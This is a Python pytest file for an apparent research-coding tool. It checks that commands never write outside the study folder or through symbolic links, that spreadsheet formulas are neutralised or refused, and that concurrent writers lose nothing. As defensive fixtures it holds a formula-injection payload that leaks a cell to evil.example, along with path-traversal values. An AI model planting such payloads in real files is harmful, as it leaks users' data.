"""Commands that change a study (``code --accept``, ``import qdpx``) lose nothing and write nowhere
else: the changes file inside the study, never through a link, a workbook's formulas never saved
away, the suggestions file safe to open in Excel, one writer at a time."""

from __future__ import annotations

import contextlib
import csv
import io
import re
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import MINIMAL
from tests.helpers import run_impactkit

STUDY = """\
impactkit: 1
id: cw
title: CW
route: nonlinear
stakeholders: [{id: students, name: Students, group: students, helix: education}]
changes: CHANGES
"""
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"I work together with partners")'
CHANGES = [
    ["id", "person", "stakeholder", "change"],
    ["@c1", "p1", "students", FORMULA],
    ["c2", "p2", "students", "I learn a lot in school"],
    ["c3", "p3", "students", "We work together with partners"],
]
SUGGESTIONS = "id,row,person,stakeholder,change,idg_suggested,idg_suggested_because,accept\n"


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _study(folder: Path, changes: str = "changes.csv", rows: list[list[str]] = CHANGES) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "study.yaml").write_text(STUDY.replace("CHANGES", changes), encoding="utf-8")
    target = (folder / changes).resolve() if not Path(changes).is_absolute() else Path(changes)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(_csv(rows), encoding="utf-8")
    return folder


def _accepting(*rows: tuple[str, int, str, str]) -> str:
    """A suggestions file accepting ``(id, row, person, code)`` rows."""
    return SUGGESTIONS + "".join(f"{i},{r},{p},students,x,{code},,ja\n" for i, r, p, code in rows)


def test_the_suggestions_file_neutralises_formulas_and_accept_reads_it_back(tmp_path, cli):
    folder = _study(tmp_path / "study")
    done = cli("code", folder, "--method", "idg", plugins="core,idg")
    assert done.exit_code == 0, done.output
    path = folder / "changes.idg-suggestions.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    first = rows[0]
    assert first["change"] == "'" + FORMULA and first["id"] == "'@c1"  # shown as text in Excel
    for row in rows:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())
    path.write_text(path.read_text(encoding="utf-8").replace(",\n", ",ja\n"), encoding="utf-8")
    done = cli("code", folder, "--method", "idg", "--accept", plugins="core,idg")
    assert done.exit_code == 0, done.output
    written = list(csv.DictReader(io.StringIO((folder / "changes.csv").read_text(encoding="utf-8"))))
    assert written[0]["change"] == FORMULA and written[0]["id"] == "@c1"  # the changes file as it was
    assert written[0]["idg"]  # the '@c1 row matched its change once read back


@pytest.mark.parametrize("where", ["../outside/victim.csv", "ABSOLUTE"])
def test_a_changes_file_outside_the_study_is_never_written(tmp_path, cli, where):
    outside = tmp_path / "outside"
    changes = str(outside / "victim.csv") if where == "ABSOLUTE" else where
    folder = _study(tmp_path / "study", changes)
    victim = outside / "victim.csv"
    before = victim.read_bytes()
    done = cli("code", folder, "--method", "idg", plugins="core,idg", catch=True)
    assert done.exit_code == 2 and "outside the study folder" in done.output, done.output
    assert sorted(p.name for p in outside.iterdir()) == ["victim.csv"]  # nothing made beside it
    (outside / "victim.idg-suggestions.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    done = cli("code", folder, "--method", "idg", "--accept", plugins="core,idg", catch=True)
    assert done.exit_code == 2 and "outside the study folder" in done.output, done.output
    assert victim.read_bytes() == before
    assert sorted(p.name for p in outside.iterdir()) == ["victim.csv", "victim.idg-suggestions.csv"]


def test_a_linked_changes_file_is_not_written_through(tmp_path, cli):
    folder = _study(tmp_path / "study", "data/real.csv")
    (folder / "study.yaml").write_text(STUDY.replace("CHANGES", "changes.csv"), encoding="utf-8")
    (folder / "changes.csv").symlink_to(folder / "data" / "real.csv")
    before = (folder / "data" / "real.csv").read_bytes()
    (folder / "changes.idg-suggestions.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    done = cli("code", folder, "--method", "idg", "--accept", plugins="core,idg", catch=True)
    assert done.exit_code == 2 and "symbolic link" in done.output, done.output
    assert (folder / "data" / "real.csv").read_bytes() == before
    assert (folder / "changes.csv").is_symlink()


def _workbook(path: Path, rows: list[list[object]]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def test_a_workbook_with_formulas_is_refused_and_left_as_it_was(tmp_path, cli):
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "study.yaml").write_text(STUDY.replace("CHANGES", "changes.xlsx"), encoding="utf-8")
    rows = [["id", "person", "stakeholder", "change", "word"], ["c1", "p1", "students", "I learn", '=D2&"!"']]
    _workbook(folder / "changes.xlsx", rows)
    before = (folder / "changes.xlsx").read_bytes()
    (folder / "changes.idg-suggestions.csv").write_text(_accepting(("c1", 2, "p1", "Trust")), encoding="utf-8")
    done = cli("code", folder, "--method", "idg", "--accept", plugins="core,idg", catch=True)
    assert done.exit_code == 2, done.output
    assert "formulas" in done.output and "Sheet!E2" in done.output and "Nothing was changed" in done.output
    assert (folder / "changes.xlsx").read_bytes() == before
    dutch = cli("--lang", "nl", "code", folder, "--method", "idg", "--accept", plugins="core,idg", catch=True)
    assert dutch.exit_code == 2 and "bevat formules" in dutch.output


def test_formula_like_text_in_a_workbook_stays_text_when_codes_are_added(tmp_path):
    from openpyxl import load_workbook

    from impactkit.core.coding import _Sheet

    path = tmp_path / "changes.xlsx"
    _workbook(path, [["id", "person", "stakeholder", "change"], ["c1", "p1", "students", "x"]])
    book = load_workbook(path)
    book.active["D2"].value, book.active["D2"].data_type = FORMULA, "s"  # text, as a survey tool writes it
    book.save(path)
    sheet = _Sheet(path)
    copy = sheet.add_row(2)  # another coder's row of the same change
    sheet.set(copy, sheet.column("idg", create=True), "@odd code")
    sheet.save()
    cells = load_workbook(path, data_only=True).active
    assert [cells[f"D{r}"].value for r in (2, 3)] == [FORMULA, FORMULA]
    assert cells["D3"].data_type == "s" and cells["E3"].value == "@odd code" and cells["E3"].data_type == "s"


# -- one writer at a time ---------------------------------------------------------------------------

HOLD = """
import sys, time
from impactkit.core.files import atomic_write, study_lock
folder, seconds, row = sys.argv[1], float(sys.argv[2]), sys.argv[3]
path = folder + "/changes.csv"
with study_lock(folder):  # another command that reads the changes, works a while, and writes them back
    text = open(path, encoding="utf-8").read() if row else ""
    print("held", flush=True)
    time.sleep(seconds)
    if row:
        atomic_write(path, text + row + "\\n")
"""


@contextlib.contextmanager
def _holder(folder: Path, seconds: float, row: str = "") -> Iterator[subprocess.Popen[str]]:
    proc = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(folder), str(seconds), row], stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "held"
        yield proc
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.slow
def test_code_accept_waits_for_another_writer_and_keeps_its_write(tmp_path):
    folder = _study(tmp_path / "study")
    (folder / "changes.idg-suggestions.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    with _holder(folder, 4, "c4,p4,students,Written by the other command") as other:
        done = run_impactkit("code", folder, "--method", "idg", "--accept", plugins="core,idg")
        other.wait(timeout=30)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO((folder / "changes.csv").read_text(encoding="utf-8"))))
    assert [r["id"] for r in rows] == ["@c1", "c2", "c3", "c4"]  # the other command's row is kept
    assert rows[1]["idg"] == "Trust"  # and so is this one's code


@pytest.mark.slow
def test_a_second_writer_that_cannot_wait_longer_stops_naming_the_first(tmp_path):
    folder = _study(tmp_path / "study")
    (folder / "changes.idg-suggestions.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    before = (folder / "changes.csv").read_bytes()
    with _holder(folder, 60) as other:
        done = run_impactkit(
            "code", folder, "--method", "idg", "--accept", plugins="core,idg", env={"IMPACTKIT_LOCK_WAIT": "0.3"}
        )
        dutch = run_impactkit(
            "import", "qdpx", folder / "p.qdpx", "--study", folder, "--method", "idg", plugins="core,idg",
            lang="nl", env={"IMPACTKIT_LOCK_WAIT": "0"},
        )  # fmt: skip
    assert done.returncode == 2 and f"pid {other.pid}" in done.stderr and "changing this study" in done.stderr
    assert dutch.returncode == 2 and f"pid {other.pid}" in dutch.stderr and "wijzigt deze studie" in dutch.stderr
    assert (folder / "changes.csv").read_bytes() == before


@pytest.mark.slow
def test_two_accepts_at_once_lose_no_code(tmp_path):
    folder = _study(tmp_path / "study")
    (folder / "first.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    (folder / "second.csv").write_text(_accepting(("c3", 4, "p3", "Collaborating")), encoding="utf-8")
    script = textwrap.dedent("""
        import subprocess, sys
        procs = [subprocess.Popen([sys.argv[1], "code", sys.argv[2], "--method", "idg", "--accept", "-o", name])
                 for name in sys.argv[3:]]
        sys.exit(max(p.wait() for p in procs))
    """)
    from tests.helpers import SCRIPT, environment

    done = subprocess.run(
        [sys.executable, "-c", script, str(SCRIPT), str(folder), str(folder / "first.csv"), str(folder / "second.csv")],
        capture_output=True,
        text=True,
        timeout=120,
        env=environment(plugins="core,idg"),
    )
    assert done.returncode == 0, done.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((folder / "changes.csv").read_text(encoding="utf-8")))}
    assert rows["c2"]["idg"] == "Trust" and rows["c3"]["idg"] == "Collaborating"


# -- import changes ---------------------------------------------------------------------------------

EXPORT = 'person,stakeholder,change\nAnna,students,I learn\nBram,students,"=HYPERLINK(""http://evil.example"")"\n'


def _export(folder: Path, name: str = "export.csv", text: str = EXPORT) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder / name


@pytest.mark.parametrize("where", ["../outside/victim.csv", "ABSOLUTE"])
def test_import_never_writes_a_changes_file_outside_the_study(tmp_path, cli, where):
    outside = tmp_path / "outside"
    changes = str(outside / "victim.csv") if where == "ABSOLUTE" else where
    folder = _study(tmp_path / "study", changes)
    export = _export(tmp_path / "in")
    before = (outside / "victim.csv").read_bytes()
    for allow in ([], ["--allow-outside"]):  # reading may be allowed; writing there never
        done = cli(*allow, "import", "changes", export, "--study", folder, "--force", plugins="core", catch=True)
        assert done.exit_code == 2 and "outside the study folder" in done.output, done.output
        assert (outside / "victim.csv").read_bytes() == before
        assert sorted(p.name for p in outside.iterdir()) == ["victim.csv"]


@pytest.mark.parametrize("linked", ["changes.csv", "study.yaml"])
def test_import_does_not_write_through_a_linked_changes_file_or_study_file(tmp_path, cli, linked):
    folder = _study(tmp_path / "study")
    real = folder / "data" if linked == "changes.csv" else tmp_path / "real"  # a link inside the study, too
    real.mkdir()
    (folder / linked).rename(real / linked)
    (folder / linked).symlink_to(real / linked)
    before = {p.name: p.read_bytes() for p in real.iterdir()}
    inside_before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()}
    done = cli("import", "changes", _export(tmp_path / "in"), "--study", folder, "--force", plugins="core", catch=True)
    assert done.exit_code == 2 and "symbolic link" in done.output, done.output
    assert {p.name: p.read_bytes() for p in real.iterdir()} == before
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()} == inside_before


def test_text_that_starts_like_a_formula_is_imported_into_a_workbook_as_text(tmp_path, cli):
    from openpyxl import load_workbook

    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "study.yaml").write_text(STUDY.replace("CHANGES", "changes.xlsx"), encoding="utf-8")
    _workbook(folder / "changes.xlsx", [["person", "stakeholder", "change"], ["p0", "students", "old"]])
    done = cli("import", "changes", _export(tmp_path / "in"), "--study", folder, "--force", plugins="core")
    assert done.exit_code == 0, done.output
    sheet = load_workbook(folder / "changes.xlsx", data_only=True).active
    cell = sheet["C3"]
    assert cell.value == '=HYPERLINK("http://evil.example")' and cell.data_type == "s" and cell.quotePrefix
    done = cli("validate", folder, plugins="core")  # and it reads back as that text
    assert done.exit_code == 0, done.output


def _run_at_once(*commands: list[str], plugins: str = "core,idg") -> list[subprocess.CompletedProcess[str]]:
    """Run the ``impactkit`` command lines at the same moment; their results."""
    from tests.helpers import SCRIPT, environment

    procs = [
        subprocess.Popen(
            [str(SCRIPT), *map(str, args)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=environment(plugins=plugins),
        )
        for args in commands
    ]
    out = []
    for proc, args in zip(procs, commands):
        stdout, stderr = proc.communicate(timeout=120)
        out.append(subprocess.CompletedProcess(args, proc.returncode, stdout, stderr))
    return out


@pytest.mark.slow
def test_two_appends_at_once_keep_both_exports_rows(tmp_path):
    folder = _study(tmp_path / "study")
    first = _export(tmp_path / "in", "first.csv", "person,stakeholder,change\np10,students,First export\n")
    second = _export(tmp_path / "in", "second.csv", "person,stakeholder,change\np20,students,Second export\n")
    done = _run_at_once(
        ["import", "changes", first, "--study", folder, "--append"],
        ["import", "changes", second, "--study", folder, "--append"],
    )
    assert [d.returncode for d in done] == [0, 0], [d.stderr for d in done]
    text = (folder / "changes.csv").read_text(encoding="utf-8")
    assert "First export" in text and "Second export" in text and text.count("\n") == len(CHANGES) + 2


@pytest.mark.slow
def test_an_append_beside_code_accept_keeps_both(tmp_path):
    folder = _study(tmp_path / "study")
    (folder / "changes.idg-suggestions.csv").write_text(_accepting(("c2", 3, "p2", "Trust")), encoding="utf-8")
    export = _export(tmp_path / "in", "more.csv", "id,person,stakeholder,change\nc9,p9,students,Appended\n")
    done = _run_at_once(
        ["code", folder, "--method", "idg", "--accept"],
        ["import", "changes", export, "--study", folder, "--append"],
    )
    assert [d.returncode for d in done] == [0, 0], [d.stderr for d in done]
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((folder / "changes.csv").read_text(encoding="utf-8")))}
    assert rows["c2"]["idg"] == "Trust" and rows["c9"]["change"] == "Appended"


# -- reading outside the study ----------------------------------------------------------------------


def test_a_changes_file_outside_the_study_is_read_only_when_allowed_and_never_written(tmp_path, cli):
    folder = _study(tmp_path / "study", "../shared/changes.csv")
    refused = cli("validate", folder, plugins="core", catch=True)
    assert refused.exit_code == 2, refused.output
    assert re.search(
        r"study.yaml:6:\d+.*changes: '../shared/changes.csv' lies outside the study folder", refused.output
    )
    assert "--allow-outside" in refused.output and "outside: true" in refused.output
    assert cli("--allow-outside", "validate", folder, plugins="core").exit_code == 0
    (folder / "study.yaml").write_text(
        STUDY.replace("changes: CHANGES", "changes: {file: ../shared/changes.csv, outside: true}"), encoding="utf-8"
    )
    assert cli("validate", folder, plugins="core").exit_code == 0
    writing = cli("code", folder, "--method", "idg", plugins="core,idg", catch=True)  # beside it: never
    assert writing.exit_code == 2 and "never writes a study's files outside its folder" in writing.output
    assert sorted(p.name for p in (tmp_path / "shared").iterdir()) == ["changes.csv"]


def test_a_report_logo_outside_the_study_is_not_read(tmp_path, cli):
    folder = tmp_path / "study"
    folder.mkdir()
    (tmp_path / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\n not really")
    (folder / "study.yaml").write_text(MINIMAL + "report: {logo: ../secret.png}\n", encoding="utf-8")
    done = cli("report", folder, "-o", tmp_path / "out", "--format", "html", plugins="core", catch=True)
    assert done.exit_code == 2 and "report.logo: '../secret.png' lies outside the study folder" in done.output
